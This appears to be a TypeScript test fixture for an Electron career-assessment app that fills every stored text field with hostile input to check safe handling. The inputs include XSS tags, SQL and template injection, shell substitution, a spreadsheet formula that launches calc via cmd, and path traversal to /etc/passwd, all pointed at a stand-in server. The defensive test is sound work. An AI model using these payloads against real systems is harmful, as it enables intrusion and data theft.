import type { Database } from 'better-sqlite3';
import { AssessmentContent, EvidenceContent } from '../../data/assessments/assessment.ts';
import { Draft } from '../../data/assessments/draft.ts';
import { EvidenceDraft } from '../../data/evidence/evidence-draft.ts';
import { PathContent } from '../../data/plan/path.ts';
import { SettingsChange } from '../../data/settings/settings.ts';
import { instant } from '../../data/values/iso-date.ts';
import { saveDraft } from '../../electron/store/assessments/drafts.ts';
import { saveEvidenceDraft } from '../../electron/store/evidence/evidence-drafts.ts';
import { saveAction } from '../../electron/store/plan/actions.ts';
import { savePath } from '../../electron/store/plan/path.ts';
import { saveProgressNote } from '../../electron/store/plan/progress-notes.ts';
import { saveAssessment } from '../../electron/store/records.ts';
import { changeSettings } from '../../electron/store/settings/settings.ts';
import {
  numberedId,
  sampleAction,
  sampleContent,
  sampleDraft,
  sampleEvidenceDraft,
  sampleNote,
  samplePath,
} from '../store/samples.ts';

const hit = 'window.hit=1';

/**
 * What someone might paste harmlessly, but a program might take for more than text. `to` is a server that must not
 * be contacted.
 */
export function hostileTexts(to: string): readonly string[] {
  return [
    `<script>${hit}</script>`,
    `"'><img src="${to}/img.png" onerror="${hit}">`,
    `<svg onload="${hit}"><a xlink:href="javascript:${hit}">x</a><use href="${to}/u.svg#a"/></svg>`,
    `<iframe src="${to}/frame" srcdoc="<script>parent.${hit}</script>"></iframe>`,
    `<style>@import url(${to}/a.css); *{display:none!important}</style>`,
    `</title></style></script></textarea></bdi></main><base href="${to}/"><meta http-equiv=refresh content="0;url=${to}/r">`,
    '<!-- --!> <![CDATA[ ]]> <?php echo 1 ?> &lt;b&gt; &#60;b&#62; &amp;amp; \\u003cb\\u003e %3Cb%3E',
    `javascript:${hit}//`,
    `[a link](javascript:${hit}) ![a picture](${to}/md.png) <${to}/auto> [ref]: ${to}/ref "t"`,
    '# not a heading\n- [x] no task\n1. no list\n> no quote\n***\n| a | b |\n| --- | --- |\n```\nno code\n```\n    indented',
    '`; DROP TABLE assessment; -- \'); DELETE FROM action; --" OR 1=1 %s %n {0}',
    `\${${hit}} {{constructor.constructor("${hit}")()}} <%= 7*7 %> #{7*7} $(touch /tmp/x) \`touch /tmp/x\``,
    `=HYPERLINK("${to}/?"&A1,"x")`,
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+1+1\t-1-1\t=2+2',
    'file:///etc/passwd \\\\server\\share ../../../../etc/passwd C:\\CON',
    '\u202Eright to left\u202C and \u2066isolated\u2069 and \u200Ezero\u200Bwidth\u2060\uFEFF',
    'Z\u0336\u0322\u035Ea\u0315l\u0358g\u0489o \u{1F469}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466} \u{1F3F4}\u{E0067}\u{E0062}\u{E007F} \u2028 \u2029',
    `word${'w'.repeat(990)}`,
  ];
}

/** Puts every text into every field that takes one, through the store; the drafts hold a NUL besides. */
export function fillWithHostileTexts(db: Database, to: string): void {
  const texts = hostileTexts(to);
  const all = texts.join('\n\n');
  const now = instant(new Date());
  changeSettings(
    db,
    SettingsChange.parse({
      direction: { current: 'ic', target: 'manager' },
      name: `<img src=${to}/n.png onerror=${hit}>`,
      role: `</title><script>${hit}</script>`,
    }),
  );
  const scope = ['team-size', 'direct-reports', 'span', 'reports-to', 'planning-horizon'];
  for (const [month, first] of [0, 5, 10, 14].entries()) {
    saveAssessment(
      db,
      {
        corrects: null,
        content: AssessmentContent.parse({
          ...sampleContent({ revisions: [], lookBacks: [] }),
          date: `2026-0${month + 1}-01`,
          scope: scope.map((dimension, index) => ({
            dimension,
            level: null,
            note: texts[first + index]?.slice(0, 1_000) ?? '',
          })),
          note: all,
        }),
        evidence: texts.slice(first, first + 5).map((what) =>
          EvidenceContent.parse({
            what,
            date: '2026-01-05',
            statements: [{ skill: 'people', level: 'manager' }],
          }),
        ),
      },
      now,
      () => crypto.randomUUID(),
    );
  }
  for (const [index, text] of texts.entries()) {
    const short = text.slice(0, 1_000);
    const sent = { what: text, source: null, when: short, will: short };
    saveAction(db, sampleAction(index + 1, sent), now);
    saveProgressNote(db, sampleNote(index + 1, index + 1, { text }), now);
  }
  savePath(db, PathContent.parse({ ...samplePath, note: all }), now);
  saveDraft(db, draftOf(all), now);
  saveEvidenceDraft(
    db,
    EvidenceDraft.parse({ ...sampleEvidenceDraft(), id: numberedId(77), what: `${all}\0` }),
    now,
  );
}

function draftOf(text: string): Draft {
  const draft = sampleDraft();
  return Draft.parse({
    ...draft,
    step: 'note',
    revisions: [],
    guesses: [],
    lookBacks: [],
    evidence: draft.evidence.map((piece) => ({ ...piece, what: `${text}\0` })),
    scope: [{ dimension: 'team-size', level: null, note: `${text}\0` }],
    week: {
      ...draft.week,
      entries: draft.week.entries.map((entry) => ({ ...entry, typed: text.slice(0, 1_000) })),
    },
    note: `\0${text}`,
  });
}
